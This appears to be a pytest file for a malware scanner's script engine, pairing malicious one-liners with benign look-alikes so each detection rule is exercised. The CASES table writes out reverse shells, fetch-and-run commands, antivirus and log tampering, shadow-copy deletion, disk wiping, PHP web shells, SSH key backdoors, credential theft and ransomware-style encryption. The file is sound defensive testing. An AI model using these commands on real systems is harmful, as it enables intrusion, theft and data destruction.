"""Scripts: for each finding a small harmless script that shows it and one of the honest kind that does not."""

# ruff: noqa: E501  a row of a table is one line

from __future__ import annotations

import base64
import codecs
import gzip
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.analysis.cage.host import Cage, sheet
from lazaretto.analysis.engine import Fact, Finding, Indicator, Member, Output, Subject
from lazaretto.analysis.engines import scripts
from lazaretto.analysis.findings import load_meanings
from lazaretto.analysis.formats.types import of
from lazaretto.analysis.scripting import unfold

KIND = {
    "js": "jscript", "node": "node", "vbs": "vbscript", "bat": "batch", "ps1": "powershell", "sh": "shell", "py": "python",
    "php": "php", "enc": "script-encoded",
}  # fmt: skip
MEANINGS = load_meanings(Path(__file__).parents[3] / "catalogue").by_id


def look(language: str, source: str | bytes) -> list[Output]:
    data = source.encode() if isinstance(source, str) else source
    limit = sys.getrecursionlimit()  # in the cage the engine has the process for itself
    try:
        return list(scripts.examine(Subject(data=data, name=f"a.{language}", kind=of(KIND[language]))))
    finally:
        sys.setrecursionlimit(limit)


def ids(language: str, source: str | bytes) -> set[str]:
    return {one.id for one in look(language, source) if isinstance(one, Finding)}


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


PY_LAYER = b64(zlib.compress(b"print('this is only a marker of a test')"))
PY_TWO = b64("import base64\nexec(base64.b64decode('" + b64("print('a marker that is printed')") + "'))")
PHP_LAYER = b64(zlib.compress(b"echo 'a marker that is printed';")[2:-4])
SH_LAYER = b64("echo a marker that is printed")
PS_GZIP = b64(gzip.compress(b"Write-Output 'a marker that is printed'"))
PROGRAM = b64(b"MZ" + bytes(2000))

# id, language, positive, negative
CASES: list[tuple[str, str, str, str]] = [
    ("script-switches-protection-off", "ps1", "Set-MpPreference -DisableRealtimeMonitoring $true", "Set-MpPreference -ScanScheduleDay 2"),
    ("script-switches-protection-off", "ps1", "&('Add-Mp'+'Preference') -ExclusionPath C:\\x", "Get-MpPreference"),
    ("script-switches-protection-off", "bat", "sc stop WinDefend", "sc stop MyService"),
    ("script-opens-firewall", "bat", "netsh advfirewall set allprofiles state off", "netsh advfirewall show allprofiles"),
    ("script-removes-logs", "bat", "for %%i in (System Security) do wevtutil cl %%i", "wevtutil qe System /c:5"),
    ("script-removes-logs", "sh", "rm -rf /var/log/*", "rm -f /var/log/mytool/old.log"),
    ("script-deletes-copies", "bat", "set a=vss\n%a%admin delete shadows /all /quiet", "vssadmin list shadows"),
    ("script-deletes-copies", "vbs", 'CreateObject("WScript.Shell").Run "wmic shadowcopy delete", 0', 'CreateObject("WScript.Shell").Run "wmic os get caption", 1'),
    ("script-destroys", "sh", "dd if=/dev/zero of=/dev/sda bs=1M", "dd if=/dev/zero of=/tmp/swap bs=1M count=10"),
    ("script-creates-account", "bat", "net user help Secret1 /add", "net user"),
    ("script-makes-administrator", "bat", "net localgroup administrators help /add", "net localgroup administrators"),
    ("script-tampers-interpreter", "ps1", "[Ref].Assembly.GetType('a.b').GetField('c','NonPublic,Static').SetValue($null,$true)", "[Ref].Assembly.GetType('a.b').GetField('c')"),
    ("script-runs-fetched-code", "sh", "curl -fsSL https://example.org/install | bash", "curl -fsSL https://example.org/list | grep x"),
    ("script-runs-fetched-code", "ps1", "iex (irm https://example.org/x)", "irm https://example.org/x | Out-Null"),
    ("script-runs-fetched-code-covertly", "ps1", "&('ie'+'x') (New-Object Net.WebClient).DownloadString('http://1.2.3.4/x')", "(New-Object Net.WebClient).DownloadString('http://1.2.3.4/x') | Out-Null"),
    ("script-runs-fetched-code-covertly", "py", "import base64,requests\nexec(requests.get(base64.b64decode('aHR0cDovL2V4YW1wbGUub3JnL3g=').decode()).text)", "import requests\nprint(requests.get('http://example.org/x').text)"),
    ("script-starts-fetched-program-covertly", "vbs",
     'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://example.org/a", False\nh.Send\nSet s = CreateObject("ADODB." & "Stream")\ns.Write h.responseBody\n'  # noqa: ISC004
     's.SaveToFile "C:\\a.exe", 2\nCreateObject("WScript.Shell").Run "C:\\a.exe"',
     'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://example.org/a", False\nh.Send\nWScript.Echo h.responseText'),
    ("script-starts-fetched-program-covertly", "js",
     'var h=new ActiveXObject("MSXML2.XMLHTTP");h["op"+"en"]("GET","http://example.org/a",0);h.send();var s=new ActiveXObject("ADODB.Stream");s.open();s.write(h.responseBody);'  # noqa: ISC004
     's.saveToFile("C:\\\\a.exe");new ActiveXObject("WScript.Shell").Run("C:\\\\a.exe")',
     'var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","http://example.org/a",0);h.send();WScript.Echo(h.responseText)'),
    ("script-starts-fetched-file", "bat", "certutil -urlcache -f https://example.org/a.exe a.exe\na.exe", "certutil -hashfile a.exe\na.exe"),
    ("script-starts-fetched-file", "sh", "x=cu; y=rl; $x$y https://example.org/a -o /tmp/quick\nchmod +x /tmp/quick\n/tmp/quick", "curl https://example.org/a -o /tmp/quick\n/tmp/other"),
    ("script-starts-carried-program", "ps1", f"[IO.File]::WriteAllBytes('C:\\a.exe',[Convert]::FromBase64String('{PROGRAM}')); Start-Process C:\\a.exe", f"[IO.File]::WriteAllBytes('C:\\a.ico',[Convert]::FromBase64String('{PROGRAM}'))"),
    ("script-loads-carried-program", "ps1", f"[Reflection.Assembly]::Load([Convert]::FromBase64String('{PROGRAM}'))", "[Reflection.Assembly]::Load('System.Web')"),
    ("script-runs-decoded-code", "py", f"import base64,zlib\nexec(zlib.decompress(base64.b64decode('{PY_LAYER}')))", "exec('x = 1')"),
    ("script-runs-decoded-code", "php", f"<?php eval(gzinflate(base64_decode('{PHP_LAYER}')));", "<?php echo base64_decode('aGFsbG8gaGFsbG8gaGFsbG8=');"),
    ("script-runs-decoded-code", "sh", f"echo {SH_LAYER} | base64 -d | sh", f"echo {SH_LAYER} | base64 -d > /tmp/x"),
    ("script-runs-decoded-code", "ps1", f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{PS_GZIP}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()", "$s=New-Object IO.MemoryStream"),
    ("script-runs-decoded-code", "bat", f"powershell -NoP -e {utf16('Write-Output a-marker-of-a-test')}", "powershell -NoProfile -Command Get-Date"),
    ("script-runs-decoded-code", "js", "eval(unescape('%57%53%63%72%69%70%74%2e%45%63%68%6f%28%27%61%6d%61%72%6b%65%72%27%29'))", "eval('(' + text + ')')"),
    ("script-runs-decoded-code", "vbs", "x = \"\"\nFor Each c In Split(\"77 73 67 98 111 120 32 34 97 32 109 97 114 107 101 114 32 111 102 32 97 32 116 101 115 116 34\")\nx = x & Chr(c)\nNext\nExecute x", "Execute \"x = 1\""),
    ("script-runs-nested-decoded-code", "py", f"import base64\nexec(base64.b64decode('{PY_TWO}'))", f"import base64,zlib\nexec(zlib.decompress(base64.b64decode('{PY_LAYER}')))"),
    ("script-hides-what-it-calls", "js", "this['ev'+'al']('WScript.Echo(1)')", "this['add' + 'Listener']('x')"),
    ("script-hides-what-it-calls", "php", "<?php $f='sys'.'tem'; $f('id');", "<?php system('id');"),
    ("script-hides-names", "js", ";".join(f"a['x'+'y{n}']()" for n in range(9)), ";".join(f"a['xy{n}']()" for n in range(9))),
    ("script-meaningless-names", "js", "var " + ",".join(f"_0x{n:04x}a=1" for n in range(20)), "var " + ",".join(f"a{n:04x}=1" for n in range(20))),
    ("script-escaped-source", "js", 'var a="' + "".join(f"\\x{ord(c):02x}" for c in "a marker of a test" * 5) + '"', 'var a="' + "a marker of a test" * 20 + '\\x20"'),
    ("script-mostly-encoded", "js", f"var a=atob('{b64('a marker of a test' * 20)}')", f"var a='{b64('a marker of a test' * 20)}'"),
    ("script-encoded", "enc", "#@~^EQAAAA==abc^#~@", ""),
    ("script-hides-window", "vbs", 'CreateObject("WScript.Shell").Run "notepad", 0', 'CreateObject("WScript.Shell").Run "notepad", 1'),
    ("script-gives-shell-away", "sh", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "exec 3<>/dev/tcp/192.0.2.1/80"),
    ("script-gives-shell-away", "py", "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')", "import os\nos.dup2(os.open('/dev/null', 0), 0)"),
    ("script-gives-shell-away", "sh", "nc -e /bin/sh 192.0.2.1 4444", "nc -z 192.0.2.1 22"),
    ("script-obeys-connection", "ps1", "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.1',80);$s=$c.GetStream();$d=(New-Object IO.StreamReader($s)).ReadLine();iex $d", "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.1',80);$c.Connected"),
    ("script-obeys-visitor", "php", "<?php @eval($_POST['a']);", "<?php echo htmlspecialchars($_POST['a']);"),
    ("script-obeys-visitor", "php", "<?php $f = 'ass'.'ert'; $f(base64_decode($_COOKIE['k']));", "<?php assert($x > 1);"),
    ("script-runs-with-visitor-text", "php", "<?php system('ping -c 1 ' . $_GET['host']);", "<?php system('ping -c 1 example.org');"),
    ("script-writes-web-shell", "php", "<?php file_put_contents('a.php', '<?php eval($_POST[1]);');", "<?php file_put_contents('a.php', '<?php return 1;');"),
    ("script-writes-visitor-file", "php", "<?php move_uploaded_file($_FILES['a']['tmp_name'], $_GET['n']);", "<?php move_uploaded_file($_FILES['a']['tmp_name'], '/srv/up/1');"),
    ("script-starts-itself-again", "vbs", 'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\R" & "un\\a", "b"', 'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Mine\\a", "b"'),
    ("script-adds-start-entry", "sh", "echo '* * * * * root /x' > /etc/cron.d/x", "echo x > /etc/mytool.conf"),
    ("script-adds-login-key", "sh", "echo 'ssh-ed25519 AAAA a' >> /root/.ssh/authorized_keys", "cat /root/.ssh/known_hosts"),
    ("script-reads-secrets", "py", "import os\nopen(os.path.expanduser('~/.aws/credentials')).read()", "open('config.ini').read()"),
    ("script-gathers-secrets", "py", "for p in ['~/.aws/credentials','~/.ssh/id_rsa','~/.netrc','~/.git-credentials']:\n    open(p).read()", "open('~/.netrc').read()"),
    ("script-sends-secrets", "py", "import requests\nd=open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://example.org', data=d)", "import requests\nrequests.post('https://example.org', data='x')"),
    ("script-sends-environment", "node", "fetch('https://example.org', {method:'POST', body: JSON.stringify(process.env)})", "fetch('https://example.org')"),
    ("script-runs-code-from-memory", "ps1", "Add-Type 'class A { [DllImport(\"k\")] static extern int VirtualAlloc(); [DllImport(\"k\")] static extern int CreateThread(); }'", "Add-Type -AssemblyName System.Web"),
    ("script-encrypts-files", "py", "import os\nfrom cryptography.fernet import Fernet\nf=Fernet(k)\nfor r,d,n in os.walk('/home'):\n  for x in n:\n    e=f.encrypt(open(x,'rb').read())\n    open(x,'wb').write(e)\n    os.remove(x)", "from cryptography.fernet import Fernet\nFernet(k).encrypt(b'x')"),
    ("script-waits-long", "bat", "ping -n 600 127.0.0.1 > nul", "ping -n 2 127.0.0.1 > nul"),
    ("script-asks-about-machine", "ps1", "Get-WmiObject Win32_ComputerSystem", "Get-WmiObject Win32_Printer"),
    ("script-looks-for-analysis", "ps1", "$m=(Get-WmiObject Win32_ComputerSystem).Model\nif ($m -match 'VirtualBox|VMware|QEMU') { exit }", "$m=(Get-WmiObject Win32_ComputerSystem).Model"),
    ("script-deletes-itself", "bat", 'del "%~f0"', "del a.tmp"),
    ("script-offers-carried-program", "js", f"var u=URL.createObjectURL(new Blob([atob('{PROGRAM}')]))", "var u=URL.createObjectURL(new Blob([canvas.data]))"),
    ("script-offers-carried-file", "js", f"var u=URL.createObjectURL(new Blob([atob('{b64('a marker ' * 300)}')]))", "var u=URL.createObjectURL(new Blob(['a,b']))"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("id_", "language", "bad", "good"), CASES, ids=[f"{c[0]}-{c[1]}-{n}" for n, c in enumerate(CASES)]
)
def test_finding(id_: str, language: str, bad: str, good: str) -> None:
    assert id_ in ids(language, bad)
    if good:
        assert id_ not in ids(language, good)


def test_every_finding_has_a_case_and_a_meaning() -> None:
    shown = {case[0] for case in CASES}
    assert {name for name in MEANINGS if name.startswith("script-")} == shown


HONEST: list[tuple[str, str]] = [
    ("sh", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  update-rc.d x defaults >/dev/null\n  systemctl daemon-reload || true\nfi\n"),
    ("sh", "ac_cv_x=`eval echo \\$$ac_var`\neval \"$ac_try\" 2>conftest.er1\nrm -rf conftest*\n"),
    ("sh", "for f in *.txt; do echo \"$f\" | tr a-z A-Z; done | while read x; do cp \"$x\" /srv; done"),
    ("js", "!function(e,t){\"object\"==typeof exports?module.exports=t():e.x=t()}(this,function(){var n={};return n.a=function(e){return e.replace(/[&<>]/g,function(t){return\"&#\"+t.charCodeAt(0)+\";\"})},n});"),
    ("node", "const cp=require('child_process');cp.execSync('git rev-parse HEAD').toString().trim();"),
    ("js", "var s=document.createElement('script');s.src='https://example.org/a.js';document.head.appendChild(s);"),
    ("ps1", "param([string]$Path)\nfunction Get-Thing { param($x) Get-ChildItem $x | Where-Object { $_.Length -gt 1kb } | Sort-Object Name }\nGet-Thing $Path"),
    ("ps1", "Import-Module ActiveDirectory\nforeach ($u in Get-ADUser -Filter *) { Write-Host ('{0}: {1}' -f $u.Name, $u.Enabled) }"),
    ("bat", "@echo off\nsetlocal\nset JAVA=%JAVA_HOME%\\bin\\java.exe\nif not exist \"%JAVA%\" goto err\n\"%JAVA%\" -jar %~dp0x.jar %*\n:err\necho no java\n"),
    ("vbs", "Option Explicit\nDim o\nSet o = CreateObject(\"Scripting.FileSystemObject\")\nIf o.FileExists(\"a\") Then WScript.Echo \"there\"\n"),
    ("py", "import os, subprocess, sys\ndef main():\n    subprocess.check_call([sys.executable, '-m', 'pip', '--version'])\nif __name__ == '__main__':\n    main()\n"),
    ("py", "import base64\nLOGO = base64.b64decode('R0lGODlhAQABAAAAACw=')\n"),
    ("php", "<?php\nadd_action('init', 'my_init');\nfunction my_init() { $v = get_option('x'); if (!empty($_POST['a'])) { update_option('x', sanitize_text_field($_POST['a'])); } }\n"),
]  # fmt: skip


@pytest.mark.parametrize(("language", "source"), HONEST, ids=[f"{c[0]}-{n}" for n, c in enumerate(HONEST)])
def test_honest_scripts_show_nothing_of_weight(language: str, source: str) -> None:
    assert not {name for name in ids(language, source) if MEANINGS[name].weight.rank >= 2}


# -- folding --------------------------------------------------------------------------------------------------------------

FOLDED: list[tuple[str, str, str, str]] = [
    ("javascript", "f('a'+\"b\"+`c`)", "f", "abc"),
    ("javascript", "var a=['c','b','a'];(function(x,n){while(n--){x.push(x.shift())}})(a,1);f(a[0])", "f", "b"),
    ("javascript", "f(String.fromCharCode(104,105))", "f", "hi"),
    ("javascript", "f('olleh'.split('').reverse().join(''))", "f", "hello"),
    ("javascript", "function d(s,k){var r='';for(var i=0;i<s.length;i++){r+=String.fromCharCode(s.charCodeAt(i)^k)}return r} f(d('khoor',0))", "f", "khoor"),
    ("javascript", "f([104,105].map(c=>String.fromCharCode(c)).join(''))", "f", "hi"),
    ("javascript", "f('a-b-c'.replace(/-/g,''))", "f", "abc"),
    ("javascript", "var x={a:'b'};f(x.a+x['a'])", "f", "bb"),
    ("javascript", "f((1,'abc'))", "f", "abc"),
    ("powershell", "f (\"{1}{0}\" -f 'b','a')", "f", "ab"),
    ("powershell", "f ('a.b' -replace '\\.','-')", "f", "a-b"),
    ("powershell", "f (-join ('cba'[-1..-3]))", "f", "abc"),
    ("powershell", "f ([char]97+[char]0x62)", "f", "ab"),
    ("powershell", "$a='x';$a+='y';f \"$a-$($a)z\"", "f", "xy-xyz"),
    ("powershell", "f ((97,98,99 | % { [char]$_ }) -join '')", "f", "abc"),
    ("powershell", "f ($env:comspec[4,24,25] -join '')", "f", "iex"),
    ("powershell", "function g($x) { return $x.Replace('a','b') }\nf (g 'aa')", "f", "bb"),
    ("vbscript", 'f StrReverse("cba") & Chr(&H64)', "f", "abcd"),
    ("vbscript", 'f Replace("a~b", "~", "") & Mid("xyz", 2, 1)', "f", "aby"),
    ("vbscript", 'Function g(x)\ng = UCase(x)\nEnd Function\nf g("ab")', "f", "AB"),
    ("vbscript", 'f Join(Array("a","b"), "-")', "f", "a-b"),
    ("python", "f(''.join(chr(c ^ 1) for c in [96, 99]))", "f", "ab"),
    ("python", "import base64 as q\nf(q.b64decode('YWI=').decode()[::-1])", "f", "ba"),
    ("python", "def g(x):\n    return x.replace('-', '')\nf(g('a-b'))", "f", "ab"),
    ("python", "f('%s%s' % ('a', 'b') + '{}'.format('c') + f'{1}')", "f", "abc1"),
    ("php", "<?php f('a'.\"b\".chr(99).strrev('ed'));", "f", "abcde"),
    ("php", "<?php $x='a'; $x.='b'; f(str_rot13(implode('', array($x,'n'))));", "f", "noa"),
    ("shell", "a=x; b=${a}y; f \"$b\"z$(printf '\\x41')", "f", "xyzA"),
    ("shell", "f $(echo abc | rev) ", "f", "cba"),
    ("shell", "a=abcdef; f ${a:2:2}${a/c/_}", "f", "cdab_def"),
    ("powershell", "function g($x) { $x + 'b' }\nf(g('a'))", "f", "ab"),
    ("batch", "set a=abcdef\nf %a:~1,2%%a:c=-%", "f", "bcab-def"),
    ("batch", "set x=a\nf^f \"%x%\"", "ff", "a"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("language", "source", "name", "wanted"), FOLDED, ids=[f"{c[0]}-{n}" for n, c in enumerate(FOLDED)]
)
def test_folding(language: str, source: str, name: str, wanted: str) -> None:
    calls = unfold.fold(source.encode(), language).calls
    assert [str(call.args[0]) for call in calls if call.name == name] == [wanted]


def test_the_folded_source_has_the_values_in_place() -> None:
    folded = unfold.fold(b"var a = 'ab' + 'cd'; g(a)", "javascript")
    assert folded.text() == 'var a = "abcd"; g(a)'


def test_layers_become_members() -> None:
    members = [
        one
        for one in look("py", f"import base64,zlib\nexec(zlib.decompress(base64.b64decode('{PY_LAYER}')))")
        if isinstance(one, Member)
    ]
    assert Member(name="layer 1.py", data=b"print('this is only a marker of a test')", relation="decoded") in members


def test_addresses_and_languages_are_told() -> None:
    told = look("sh", "curl https://example.org/a/b | sh")
    assert Indicator(kind="url", value="https://example.org/a/b") in told
    assert Fact(name="script-language", value="shell") in told


def test_utf_16_and_marks_at_the_begin() -> None:
    text = "&('ie'+'x') (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')"
    for data in (text.encode("utf-16"), codecs.BOM_UTF8 + text.encode()):
        assert "script-runs-fetched-code-covertly" in ids("ps1", data)


# -- hostile input ----------------------------------------------------------------------------------------------------------

HOSTILE: list[tuple[str, str]] = [
    ("js", "(" * 5000), ("js", "[" * 3000 + "]" * 3000), ("js", "'a'+" * 20000 + "'a'"), ("js", "while(1){x+='a'}"),
    ("js", "var a='a';for(var i=0;i<99;i++){a+=a}eval(a)"), ("js", "function f(){f();f()}f()"), ("js", "a" * 200_000),
    ("py", "x=" + "-" * 5000 + "1"), ("py", "exec('a'*10**9)"), ("py", "f" + "(x)" * 3000), ("py", "[0]*10**10"),
    ("ps1", "$(" * 2000), ("ps1", "'a'*99999999"), ("ps1", "{" * 3000), ("php", "<?php " + "if(1){" * 2000),
    ("sh", "$(" * 2000), ("sh", "a=$a$a;" * 3000), ("bat", "set a=%a%%a%aa\n" * 3000), ("bat", "for %%i in (1 2) do " * 500 + "echo"),
    ("bat", "for /l %%i in (1,1,999999999) do echo %%i"), ("bat", "("  * 5000),
    ("vbs", "(" * 5000), ("vbs", "If 1 Then\n" * 3000), ("vbs", "x = \"a\" & " * 5000), ("vbs", "Do\nx=x&x\nLoop"),
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize(("language", "source"), HOSTILE, ids=[f"{c[0]}-{n}" for n, c in enumerate(HOSTILE)])
@pytest.mark.timeout(60)
def test_hostile_sources_end(language: str, source: str) -> None:
    look(language, source)


@given(st.sampled_from([(c[1], c[2]) for c in CASES]), st.integers(0, 400), st.integers(0, 255), st.integers(0, 400))
@settings(max_examples=400, deadline=None)
def test_changed_bytes_end(case: tuple[str, str], place: int, byte: int, cut: int) -> None:
    data = bytearray(case[1].encode())
    data[place % len(data)] = byte
    look(case[0], bytes(data[: max(1, len(data) - cut % len(data))]))


@pytest.fixture(scope="module")
def cage() -> Iterator[Cage]:
    with Cage(at_once=1) as made:
        yield made


@pytest.mark.parametrize(
    ("language", "source", "id_"),
    [
        (case[1], case[2], case[0])
        for case in CASES
        if case[0] in {"script-runs-decoded-code", "script-encrypts-files", "script-obeys-visitor"}
    ],
)
def test_in_the_cage(cage: Cage, language: str, source: str, id_: str) -> None:
    with sheet(source.encode()) as fd:
        done = cage.run(scripts.ENGINE, fd, name=f"a.{language}", kind=of(KIND[language]))
    assert not done.failed, done.detail
    assert id_ in {one.id for one in done.outputs if isinstance(one, Finding)}
